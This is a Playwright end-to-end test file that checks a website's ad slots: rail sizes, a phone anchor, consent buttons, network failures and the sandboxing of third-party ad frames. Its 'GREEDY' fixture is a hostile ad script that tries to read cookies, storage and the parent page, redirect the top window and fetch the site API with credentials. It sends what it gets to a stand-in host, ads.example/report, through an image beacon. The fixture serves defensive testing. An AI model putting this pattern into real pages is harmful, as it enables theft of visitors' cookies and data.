import type { Page, Route } from '@playwright/test';
import {
  agree,
  HERE,
  LAUNCH,
  menu,
  NETWORK,
  type Network,
  SLOT,
  script,
  sizeOf,
  TAG,
  test,
} from '#tests/e2e/support/ads.ts';
import { shiftsOf, steadyShiftsOf } from '#tests/e2e/support/layout-shifts.ts';
import { DESKTOP, expect, PHONE, untilAlive } from '#tests/e2e/support/test.ts';
import { stopTime, withVirtualTime } from '#tests/e2e/support/virtual-time.ts';

/** Says what it could do, and takes all the room it can get. It does not leave a document of its own, which would cut its report off. */
const GREEDY = `
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.getItem('ad-consent'),
  page: () => parent.document.title,
  address: () => { if (top !== self) top.location.href = 'https://ads.example/elsewhere'; return top.location.href; },
};
const got = {};
for (const [name, act] of Object.entries(tries)) {
  try { got[name] = String(act()); } catch (error) { got[name] = error.name; }
}
got.origin = self.origin;
fetch('ORIGIN/api/items/', { credentials: 'include' }).then(() => 'read', (error) => error.name).then((fetched) => {
  new Image().src = 'https://ads.example/report?' + encodeURIComponent(JSON.stringify({ ...got, fetched }));
  parent.postMessage({ type: 'resize', height: 5000 }, '*');
  parent.postMessage({ type: 'filled', height: 5000 }, '*');
  document.body.style.cssText = 'width:5000px;height:5000px;background:red';
});
`;
const EMPTY = "parent.postMessage({ type: 'empty' }, '*')";

test.use({ launchOptions: LAUNCH });

const greedyAt = ({ origin }: { origin: string }) => script(GREEDY.replace('ORIGIN', origin));
const agreeToFrames = async (page: Page) => {
  await agree(page);
  await page.locator(`${SLOT} iframe`).first().waitFor();
};
/** What moved from here on. */
const shiftsFrom = async (page: Page) => {
  const { length } = await shiftsOf(page);
  return async () => (await shiftsOf(page)).slice(length);
};
const reportsIn = (asked: readonly string[]): unknown[] =>
  asked
    .filter((url) => url.includes('/report?'))
    .map((url) => JSON.parse(decodeURIComponent(new URL(url).search.slice(1))));
const wide = (width: number) => ({ viewport: { width, height: 900 } });

/** Time that runs ahead may cut the live line while it connects. */
const VIRTUAL_TIME = { prepare: withVirtualTime, allowed: /WebSocket is closed before/ };

test.describe('ads of the site itself', () => {
  test.use({ where: HERE });

  test('are hints in both rails, ask nobody for anything and move nothing', async ({ visitBesideAds }) => {
    const { page, asked } = await visitBesideAds('/items', wide(1640));
    const slots = page.locator(SLOT);
    await slots.nth(1).waitFor();
    const boxes = await Promise.all((await slots.all()).map((slot) => slot.boundingBox()));
    expect(boxes.map((box) => `${box?.width}x${box?.height}`)).toEqual(['160x600', '160x600']);
    const [left, right] = await page.locator(`${SLOT} a`).allTextContents();
    expect(left).not.toBe(right);
    expect(asked).toEqual([]);
    expect(await steadyShiftsOf(page)).toEqual([]);
  });

  test('p§2 ads: rails of 120 px from 1344 px on, of 160 px from 1624 px on, beside the whole column', async ({
    visit,
  }) => {
    const page = await visit('/items', wide(1343));
    for (const [width, count, size] of [
      [1343, 0, 0],
      [1344, 2, 120],
      [1431, 2, 120],
      [1432, 2, 120],
      [1624, 2, 160],
    ] as const) {
      await page.setViewportSize({ width, height: 900 });
      await expect(page.locator(SLOT), `at ${width}`).toHaveCount(count);
      if (count === 0) continue;
      await expect.poll(() => sizeOf(page), `at ${width}`).toBe(`${size}x600`);
      // The browser's own scrollbar takes its room from the column.
      const room = await page.evaluate(() => document.querySelector('.frame')?.clientWidth ?? 0);
      const column = Math.min(1080, room - (width < 1432 ? 2 * (120 + 12) : 2 * (160 + 16)));
      for (const part of ['main', '.top-in'])
        expect([width, part, (await page.locator(part).boundingBox())?.width]).toEqual([width, part, column]);
    }
  });

  test('p§4 ads: stay for 30 s on a page, then change with the path and with nothing else', async ({ visit }) => {
    const page = await visit('/items', VIRTUAL_TIME);
    const hint = page.locator(`${SLOT} a`).first();
    await hint.waitFor();
    const open = async (name: string, path: string) => {
      await menu(page, name).click();
      await page.waitForURL(`**${path}`);
    };
    await stopTime(page);
    await open('기술', '/skills');
    const first = (await hint.textContent()) ?? '';
    await page.clock.runFor(20_000);
    await open('지도', '/maps');
    expect(await hint.textContent()).toBe(first);
    await page.mouse.move(10, 10);
    await page.clock.runFor(31_000);
    expect(await hint.textContent()).toBe(first);
    await open('기술', '/skills');
    await expect(hint).not.toHaveText(first);
  });

  test('lie over the tab bar of a phone, and cover neither a field, nor the bar, nor the end of the page', async ({
    visit,
  }) => {
    const page = await visit('/items', PHONE);
    const anchor = page.locator('[data-ad-slot="anchor"]');
    await anchor.waitFor();
    const edgesOf = (selector: string) =>
      page.locator(selector).evaluate((element) => {
        const { top, bottom } = element.getBoundingClientRect();
        return { top, bottom };
      });
    expect((await edgesOf('[data-ad-slot="anchor"]')).bottom).toBeLessThanOrEqual((await edgesOf('.tabbar')).top);
    expect(await steadyShiftsOf(page)).toEqual([]);
    await anchor.waitFor();
    await page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
    const last = await page.evaluate(() => {
      const texts = document.createTreeWalker(document.querySelector('main') ?? document.body, NodeFilter.SHOW_TEXT);
      let bottom = 0;
      const range = document.createRange();
      while (texts.nextNode()) {
        range.selectNode(texts.currentNode);
        bottom = Math.max(bottom, range.getBoundingClientRect().bottom);
      }
      return bottom;
    });
    expect(last).toBeLessThanOrEqual((await edgesOf('[data-ad-slot="anchor"]')).top);
    await page.evaluate(() => {
      scrollTo(0, 0);
      const field = Object.assign(document.createElement('input'), { id: 'field' });
      document.querySelector('main')?.prepend(field);
      field.focus();
    });
    await expect(anchor).toBeHidden();
    await page.locator('#field').blur();
    await expect(anchor).toBeVisible();
  });

  test('are decided once after ten thousand resizes', async ({ visit }) => {
    const page = await visit('/items', VIRTUAL_TIME);
    await page.locator(SLOT).first().waitFor();
    await stopTime(page);
    await page.evaluate(() => {
      const seen = { changes: 0 };
      const watch = new MutationObserver((records) => {
        seen.changes += records.length;
      });
      for (const rail of document.querySelectorAll('.rail')) watch.observe(rail, { childList: true, subtree: true });
      for (let at = 0; at < 10_000; at += 1) dispatchEvent(new Event('resize'));
      Object.assign(window, { seen });
    });
    await page.clock.runFor(1000);
    expect(await page.evaluate(() => Reflect.get(window, 'seen'))).toEqual({ changes: 0 });
    await page.setViewportSize({ width: 1300, height: 900 });
    await page.clock.runFor(1000);
    await expect(page.locator(SLOT)).toHaveCount(0);
  });

  test('go without the line, and with a page that has none', async ({ visit }) => {
    const page = await visit('/items', { allowed: /ERR_INTERNET_DISCONNECTED/ });
    const slots = page.locator(SLOT);
    await slots.first().waitFor();
    await page.context().setOffline(true);
    await expect(slots).toHaveCount(0);
    await page.context().setOffline(false);
    await expect(slots).toHaveCount(2);
    await page.locator('.foot a[href="/notice/policy"]').click();
    await page.waitForURL('**/notice/policy');
    await expect(slots).toHaveCount(0);
    await page.reload();
    await untilAlive(page);
    await page.waitForLoadState('networkidle');
    await expect(slots).toHaveCount(0);
  });
});

test.describe('ads of a network', () => {
  test.use({ where: NETWORK });

  /** What the frames of the network are kept from is told to the console. */
  const REFUSED = { allowed: /www\.naru\.example|sandbox|ads\.example/ };

  test('are asked about first: two buttons of one size, and nobody is called', async ({ visitBesideAds }) => {
    const { page, asked } = await visitBesideAds('/items');
    const slot = page.locator(SLOT).first();
    const [all, basic] = ['맞춤 광고', '기본만'].map((name) => slot.getByRole('button', { name }));
    const sizes = [await all?.boundingBox(), await basic?.boundingBox()].map((box) => [box?.width, box?.height]);
    expect(sizes[0]).toEqual(sizes[1]);
    expect(asked).toEqual([]);
    await basic?.click();
    await expect(page.locator(`${SLOT} a`)).toHaveCount(2);
    await page.reload();
    await untilAlive(page);
    await page.locator(`${SLOT} a`).first().waitFor();
    expect(asked).toEqual([]);
    expect(await steadyShiftsOf(page)).toEqual([]);
  });

  test('read neither cookie nor page, call nothing of the site, and take no room that is not theirs', async ({
    visitBesideAds,
    site,
  }) => {
    const { page, asked } = await visitBesideAds('/items', { ...REFUSED, network: greedyAt(site) });
    const title = await page.title();
    const shifts = await shiftsFrom(page);
    await agreeToFrames(page);
    await expect.poll(() => reportsIn(asked).length).toBe(2);
    for (const report of reportsIn(asked)) {
      expect(report).toEqual({
        cookie: 'SecurityError',
        storage: 'SecurityError',
        page: 'SecurityError',
        address: 'SecurityError',
        origin: 'null',
        fetched: 'TypeError',
      });
    }
    expect([await page.title(), new URL(page.url()).pathname]).toEqual([title, '/items']);
    expect(await sizeOf(page)).toBe('120x600');
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(DESKTOP.viewport.width);
    expect(await shifts()).toEqual([]);
  });

  test('read no cookie when the address of the frame is opened as a document', async ({ visitBesideAds, site }) => {
    const { page, asked } = await visitBesideAds('/items', { ...REFUSED, network: greedyAt(site) });
    await page.context().addCookies([{ name: 'secret', value: 'of-the-visitor', url: site.origin }]);
    await page.goto('/ads/frame/left?size=160x600');
    await expect.poll(() => reportsIn(asked).length).toBe(1);
    const refused = { cookie: 'SecurityError', storage: 'SecurityError', origin: 'null', fetched: 'TypeError' };
    expect(reportsIn(asked)[0]).toMatchObject(refused);
  });

  test('that have nothing leave the room to a hint of the site, and other frames are not heard', async ({
    visitBesideAds,
  }) => {
    const { page } = await visitBesideAds('/items', { network: script(EMPTY) });
    await page.evaluate(() => postMessage({ type: 'empty' }, '*'));
    const shifts = await shiftsFrom(page);
    await agree(page);
    await expect(page.locator(`${SLOT} a`)).toHaveCount(2);
    expect(await shifts()).toEqual([]);
  });

  const answers: readonly [string, Network, 'request' | 'response' | 'requestfailed'][] = [
    ['is refused', (route: Route) => route.abort(), 'requestfailed'],
    ['never comes', () => new Promise(() => {}), 'request'],
    ['is a document of 50 MB', script(`/*${' '.repeat(50_000_000)}*/`), 'response'],
    [
      'is no script',
      (route: Route) => route.fulfill({ status: 500, contentType: 'text/html', body: '<h1>500</h1>' }),
      'response',
    ],
  ];
  for (const [name, network, sign] of answers)
    test(`whose answer ${name} leave the page as it is`, async ({ visitBesideAds }) => {
      const { page } = await visitBesideAds('/items', { allowed: /ads\.example|ERR_FAILED|status of 500/, network });
      const shifts = await shiftsFrom(page);
      const answered = page.waitForEvent(sign as 'request', (one) => one.url() === TAG);
      await agree(page);
      await answered;
      expect(await sizeOf(page)).toBe('120x600');
      expect(await shifts()).toEqual([]);
      await menu(page, '기술').click();
      await page.waitForURL('**/skills');
    });

  test('are chosen for as long as the page is open where the browser stores nothing', async ({
    visitBesideAds,
    site,
  }) => {
    const { page } = await visitBesideAds('/items', {
      ...REFUSED,
      network: greedyAt(site),
      prepare: (one) =>
        one.addInitScript(() =>
          Object.defineProperty(window, 'localStorage', {
            get() {
              throw new DOMException('blocked', 'SecurityError');
            },
          }),
        ),
    });
    await agreeToFrames(page);
    await menu(page, '기술').click();
    await page.waitForURL('**/skills');
    await expect(page.locator(`${SLOT} iframe`)).toHaveCount(2);
  });

  test('are chosen again in the footer', async ({ visitBesideAds, site }) => {
    const { page } = await visitBesideAds('/items', { ...REFUSED, network: greedyAt(site) });
    await agreeToFrames(page);
    await page.locator('.foot [data-ad-choice]').click();
    await page.getByRole('dialog').getByRole('button', { name: '기본만' }).click();
    await expect(page.locator(`${SLOT} a`)).toHaveCount(2);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    expect(new URL(page.url()).pathname).toBe('/items');
  });
});

test.describe('on this machine', () => {
  test('the stub holds the page and grows, and moves nothing', async ({ visit }) => {
    const page = await visit('/geniee/test');
    await page.locator('[data-stub="done"]').nth(2).waitFor();
    const sizes = await page
      .locator('main .panel > div')
      .evaluateAll((boxes) => boxes.map((box) => `${box.clientWidth}x${box.clientHeight}`));
    expect(sizes).toEqual(['120x600', '120x600', '320x50']);
    expect(await steadyShiftsOf(page)).toEqual([]);
  });

  test('the stub is all there is: elsewhere nothing is loaded for ads', async ({ visit }) => {
    const page = await visit('/items');
    await page.waitForLoadState('networkidle');
    await expect(page.locator(SLOT)).toHaveCount(0);
    const files = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
    expect(files.filter((name) => /start-ads|fill-slot/.test(name))).toEqual([]);
  });
});
